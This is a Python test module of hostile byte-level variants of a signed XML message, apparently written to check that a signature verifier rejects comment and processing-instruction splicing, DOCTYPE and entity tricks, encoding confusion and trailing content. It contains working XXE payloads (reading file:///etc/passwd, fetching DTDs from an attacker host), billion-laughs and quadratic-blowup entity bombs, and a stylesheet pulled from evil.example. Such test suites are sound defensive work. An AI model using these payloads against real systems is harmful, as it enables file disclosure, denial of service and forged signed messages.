"""Attacks on the bytes of a signed file: comments, document types, encodings, and what stands around."""

from typing import Final

from mla_schema.core import faults
from tests.signature.hostile import (
    Attacks,
    Stage,
    bare,
    inside,
    put_before,
    put_behind,
    signed_with,
    swap,
    swap_first,
)
from tests.signature.specimens import sealed
from tests.signature.xmldsig import resign

ATTACKS: Final = Attacks()
_wire = ATTACKS.add

_COMMENT: Final = b"<!---->"
_INSTRUCTION: Final = b"<?a b?>"
_DOCTYPE: Final = b"<!DOCTYPE message [%s]>"


def _within(name: str, what: bytes, nth: int = 0) -> bytes:
    """Something in the middle of a text of the signature."""
    text = inside(sealed(), name, nth)
    return swap(sealed(), text, text[:6] + what + text[6:])


@_wire(Stage.WIRE, faults.COMMENT, item=5, row=3, fools=True)
def comment_splits_a_text() -> bytes:
    """Canonicalisation drops the comment, and the reader takes only the text before it: another address."""
    return swap(sealed(), b"198.51.100.7", b"198.51.100.<!---->7")


@_wire(Stage.WIRE, faults.PROCESSING_INSTRUCTION, item=5, row=3)
def instruction_splits_a_text() -> bytes:
    """The reader takes only the text before the instruction, although it was signed."""
    return resign(swap(sealed(), b"198.51.100.7", b"198.51.100.<?a?>7"))


@_wire(Stage.WIRE, faults.COMMENT, item=5, row=3, fools=True)
def comment_between_elements() -> bytes:
    """A note that nobody signed is shown beside the message."""
    return put_behind(sealed(), b"</header>", b"<!-- the prosecutor has withdrawn this -->")


@_wire(Stage.WIRE, faults.COMMENT, item=5, row=4, fools=True)
def comment_before_the_root() -> bytes:
    """A note that nobody signed stands on top of the file."""
    return _COMMENT + sealed()


@_wire(Stage.WIRE, faults.COMMENT, item=5, row=4, fools=True)
def comment_behind_the_root() -> bytes:
    """A note that nobody signed stands below the file."""
    return sealed() + _COMMENT


@_wire(Stage.WIRE, faults.PROCESSING_INSTRUCTION, item=6, row=4, fools=True)
def instruction_before_the_root() -> bytes:
    """Some sign what stands before the root and some do not, so two readers disagree."""
    return _INSTRUCTION + sealed()


@_wire(Stage.WIRE, faults.PROCESSING_INSTRUCTION, item=6, row=4, fools=True)
def style_sheet_before_the_root() -> bytes:
    """A browser shows what the style sheet makes of the message, under a good signature."""
    return b'<?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?>' + sealed()


@_wire(Stage.WIRE, faults.PROCESSING_INSTRUCTION, item=7, row=4, fools=True)
def instruction_behind_the_root() -> bytes:
    """Some sign what stands behind the root and some do not, so two readers disagree."""
    return sealed() + b"\n" + _INSTRUCTION


@_wire(Stage.WIRE, faults.COMMENT, item=8, row=5, fools=True)
def comment_in_a_digest() -> bytes:
    """The reader compares with the text before the comment, or with that behind it, which is not signed."""
    return _within("ds:DigestValue", _COMMENT)


@_wire(Stage.WIRE, faults.COMMENT, item=8, row=5)
def comment_with_another_digest_in_a_digest() -> bytes:
    """The reader takes the digest out of the comment, where the signature does not reach."""
    text = inside(sealed(), "ds:DigestValue")
    return swap(sealed(), text, b"<!--" + b"A" * 43 + b"=-->" + text)


@_wire(Stage.WIRE, faults.PROCESSING_INSTRUCTION, item=8, row=5)
def instruction_in_a_digest() -> bytes:
    """The reader compares with the text before the instruction only."""
    return _within("ds:DigestValue", _INSTRUCTION)


@_wire(Stage.WIRE, faults.COMMENT, item=8, row=5, fools=True)
def comment_in_the_value() -> bytes:
    """The value of the signature is read without what stands in it."""
    return _within("ds:SignatureValue", _COMMENT)


@_wire(Stage.WIRE, faults.COMMENT, item=8, row=5, fools=True)
def comment_in_a_certificate() -> bytes:
    """The certificate is read without what stands in it."""
    return _within("ds:X509Certificate", _COMMENT)


@_wire(Stage.WIRE, faults.COMMENT, item=8, row=5, fools=True)
def comment_in_the_signing_time() -> bytes:
    """The reader takes the time before the comment: another hour."""
    return _within("xades:SigningTime", _COMMENT)


@_wire(Stage.WIRE, faults.COMMENT, item=8, row=5, fools=True)
def comment_in_signed_info() -> bytes:
    """A reader that counts the children of SignedInfo looks at the wrong ones."""
    return put_behind(sealed(), b"<ds:SignedInfo>", _COMMENT)


@_wire(Stage.WIRE, faults.COMMENT, item=8, row=5, fools=True)
def comment_in_the_object() -> bytes:
    """The first child of the object is not the properties any more."""
    return put_behind(sealed(), b"<ds:Object>", _COMMENT)


@_wire(Stage.WIRE, faults.DOCTYPE, item=54, row=21, fools=True)
def document_type() -> bytes:
    """The document type is not signed, and yet decides what the document means."""
    return _DOCTYPE % b"" + sealed()


@_wire(Stage.WIRE, faults.DOCTYPE, item=54, row=21, fools=True)
def document_type_that_declares_identifiers() -> bytes:
    """The document type says which attribute an address finds, so a reference leads elsewhere."""
    return _DOCTYPE % b"<!ATTLIST message schemaVersion ID #IMPLIED>" + sealed()


@_wire(Stage.WIRE, faults.DOCTYPE, item=55, row=21, fools=True)
def entity_in_the_content() -> bytes:
    """What was signed is the value of the entity, and another system resolves it to another one."""
    return _DOCTYPE % b"<!ENTITY a '198.51.100.7'>" + swap(sealed(), b"198.51.100.7", b"&a;")


@_wire(Stage.WIRE, faults.DOCTYPE, item=55, row=21)
def entity_in_a_digest() -> bytes:
    """A reader that does not resolve the entity compares with half of the digest."""
    text = inside(sealed(), "ds:DigestValue")
    return _DOCTYPE % (b"<!ENTITY a '%s'>" % text[:20]) + swap(sealed(), text, b"&a;" + text[20:])


@_wire(Stage.WIRE, faults.MALFORMED_XML, "an entity is used", item=55, row=21)
def entity_that_is_not_declared() -> bytes:
    """A reader that mends the file leaves it out."""
    return swap(sealed(), b"198.51.100.7", b"198.51.100.7&a;")


@_wire(Stage.WIRE, faults.DOCTYPE, item=56, row=21)
def default_attribute() -> bytes:
    """The attribute comes out of the document type, for those who read it, and was signed with it."""
    return _DOCTYPE % b"<!ATTLIST header urgent CDATA 'yes'>" + sealed()


@_wire(Stage.WIRE, faults.DOCTYPE, item=56, row=21)
def default_namespace() -> bytes:
    """The document type moves elements into another namespace."""
    return _DOCTYPE % b"<!ATTLIST header xmlns CDATA 'urn:evil'>" + sealed()


@_wire(Stage.WIRE, faults.DOCTYPE, item=57, row=21)
def external_entity_of_a_file() -> bytes:
    """The reader reads a file of its own machine into the message."""
    return _DOCTYPE % b"<!ENTITY a SYSTEM 'file:///etc/passwd'>" + swap(sealed(), b"198.51.100.7", b"&a;")


@_wire(Stage.WIRE, faults.DOCTYPE, item=57, row=21)
def external_entity_of_the_network() -> bytes:
    """The reader asks a server of the attacker."""
    return _DOCTYPE % b"<!ENTITY a SYSTEM 'http://127.0.0.1/'>" + swap(sealed(), b"198.51.100.7", b"&a;")


@_wire(Stage.WIRE, faults.DOCTYPE, item=57, row=21)
def parameter_entity() -> bytes:
    """The reader fetches the rest of the document type from a server of the attacker."""
    return _DOCTYPE % b"<!ENTITY % a SYSTEM 'http://127.0.0.1/a.dtd'> %a;" + sealed()


@_wire(Stage.WIRE, faults.DOCTYPE, item=57, row=21)
def external_document_type() -> bytes:
    """The reader fetches the document type from a server of the attacker."""
    return b"<!DOCTYPE message SYSTEM 'http://127.0.0.1/a.dtd'>" + sealed()


@_wire(Stage.WIRE, faults.DOCTYPE, item=58, row=(21, 23))
def billion_laughs() -> bytes:
    """The reader resolves entities of entities until its memory is full."""
    laughs = b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    return _DOCTYPE % (b"<!ENTITY a0 'ha'>" + laughs) + swap(sealed(), b"198.51.100.7", b"&a9;")


@_wire(Stage.WIRE, faults.DOCTYPE, item=58, row=(21, 23))
def quadratic_blow_up() -> bytes:
    """The reader resolves one long entity many times."""
    start = _DOCTYPE % (b"<!ENTITY a '%s'>" % (b"x" * 50_000))
    return start + swap(sealed(), b"198.51.100.7", b"&a;" * 50_000)


@_wire(Stage.WIRE, faults.DOCTYPE, item=54, row=21)
def document_type_inside() -> bytes:
    """A reader that mends the file takes it for what follows."""
    return put_behind(sealed(), b"</header>", b"<!DOCTYPE message>")


@_wire(Stage.WIRE, faults.NOT_UTF8, item=59, row=22)
def utf_16_with_a_mark() -> bytes:
    """The reader follows the mark, and a filter before it has looked for nothing in these bytes."""
    return sealed().decode().encode("utf-16")


@_wire(Stage.WIRE, faults.NOT_UTF8, item=59, row=22)
def utf_16_without_a_mark() -> bytes:
    """The reader guesses the encoding from the first bytes."""
    return sealed().decode().encode("utf-16-be")


@_wire(Stage.WIRE, faults.NOT_UTF8, item=59, row=22)
def utf_32() -> bytes:
    """The reader guesses the encoding from the first bytes."""
    return sealed().decode().encode("utf-32-le")


@_wire(Stage.WIRE, faults.OTHER_ENCODING, item=59, row=22)
def utf_7_declared() -> bytes:
    """The markup of an attacker is plain letters to everyone who does not follow the declaration."""
    return b'<?xml version="1.0" encoding="UTF-7"?>' + sealed()


@_wire(Stage.WIRE, faults.OTHER_ENCODING, item=60, row=22)
def encoding_that_is_not_true() -> bytes:
    """Who follows the declaration reads other letters than who does not."""
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>' + sealed()


@_wire(Stage.WIRE, faults.NOT_UTF8, item=60, row=22)
def encoding_that_is_true_but_another() -> bytes:
    """Every system must then know every encoding."""
    text = '<?xml version="1.0" encoding="ISO-8859-2"?>' + sealed().decode().replace("„", "").replace("”", "")
    return text.encode("iso-8859-2")


@_wire(Stage.WIRE, faults.NOT_UTF8, item=60, row=22)
def letter_in_latin_1() -> bytes:
    """The reader replaces what it cannot decode."""
    return swap(sealed(), "ă".encode(), b"\xe3")


@_wire(Stage.WIRE, faults.NOT_UTF8, item=60, row=22)
def letter_in_too_many_bytes() -> bytes:
    """The reader decodes a forbidden form of '<' that a filter did not see."""
    return swap(sealed(), "ă".encode(), b"\xc0\xbc")


@_wire(Stage.WIRE, faults.NOT_UTF8, item=60, row=22)
def half_of_a_surrogate_pair() -> bytes:
    """The reader keeps half of a character, which other systems refuse or replace."""
    return swap(sealed(), "ă".encode(), b"\xed\xa0\x80")


@_wire(Stage.WIRE, faults.OTHER_ENCODING, item=60, row=22)
def version_1_1() -> bytes:
    """XML 1.1 has other line ends and other characters, and another canonical form."""
    return b'<?xml version="1.1"?>' + sealed()


@_wire(Stage.WIRE, faults.BYTE_ORDER_MARK, item=61, row=22, fools=True)
def byte_order_mark() -> bytes:
    """Some take the mark for part of the file, and some do not."""
    return b"\xef\xbb\xbf" + sealed()


@_wire(Stage.WIRE, faults.TRAILING_CONTENT, item=62, row=22, fools=True)
def trailing_text() -> bytes:
    """The reader stops at the end of the root, and keeps a file that holds more."""
    return sealed() + b"and more"


@_wire(Stage.WIRE, faults.TRAILING_CONTENT, item=62, row=22, fools=True)
def second_message() -> bytes:
    """One reader takes the first message, and another the last."""
    return sealed() + bare()


@_wire(Stage.WIRE, faults.PROCESSING_INSTRUCTION, item=62, row=22)
def second_message_with_a_declaration() -> bytes:
    """One reader takes the first message, and another the last."""
    return sealed() + b'<?xml version="1.0"?>' + bare()


@_wire(Stage.WIRE, faults.FORBIDDEN_CHARACTER, item=62, row=22)
def nul_behind_the_root() -> bytes:
    """The reader stops at the zero, as in C."""
    return sealed() + b"\0" + bare()


@_wire(Stage.WIRE, faults.FORBIDDEN_CHARACTER, item=62, row=22)
def nul_inside_a_text() -> bytes:
    """The reader stops at the zero, as in C: another address."""
    return swap(sealed(), b"198.51.100.7", b"198.51.100.\x007")


@_wire(Stage.WIRE, faults.NOT_A_MESSAGE, item=62, row=22)
def leading_text() -> bytes:
    """The reader looks for the first '<'."""
    return b"note: " + sealed()


@_wire(Stage.WIRE, faults.MALFORMED_XML, "an end tag does not match", item=62, row=22)
def element_that_is_not_closed() -> bytes:
    """A reader that mends the file moves everything behind it into that element."""
    return swap(sealed(), b"</recipient>", b"")


@_wire(Stage.WIRE, faults.MALFORMED_XML, "the same attribute twice", row=22)
def attribute_given_twice() -> bytes:
    """One reader takes the first, and another the last."""
    return swap(sealed(), b' schemaVersion="1.0"', b' schemaVersion="1.0" schemaVersion="1.0"')


@_wire(Stage.WIRE, faults.MALFORMED_XML, "a CDATA section is not closed", row=22)
def cdata_that_is_not_closed() -> bytes:
    """A reader that mends the file takes the signature for text."""
    return put_behind(sealed(), b"<port>", b"<![CDATA[")


@_wire(Stage.WIRE, faults.COMMENT, item=5, row=3)
def comment_that_a_section_seems_to_close() -> bytes:
    """A filter takes the beginning of the comment for part of a CDATA section."""
    return swap(sealed(), b"198.51.100.7", b"198.51.100.<![CDATA[]]><!--]]>-->7")


@_wire(Stage.WIRE, faults.MALFORMED_XML, "prefix is used that is not declared", row=19)
def prefix_that_is_not_declared() -> bytes:
    """A reader that mends the file takes the prefix for part of the name."""
    return swap_first(sealed(), b' xmlns:ds="http://www.w3.org/2000/09/xmldsig#"', b"")


@_wire(Stage.WIRE, faults.COMMENT, item=5, row=3, fools=True)
def comment_signed_by_the_prosecutor() -> bytes:
    """It stands there from the beginning, and still nobody has signed it."""
    return signed_with(put_before(bare(), b"<body>", _COMMENT))


@_wire(Stage.WIRE, faults.MALFORMED_XML, "an end tag does not match", row=10)
def signature_that_is_not_closed() -> bytes:
    """A reader that mends the file finds no properties, and asks for none."""
    return swap(sealed(), b"</ds:KeyInfo>", b"")
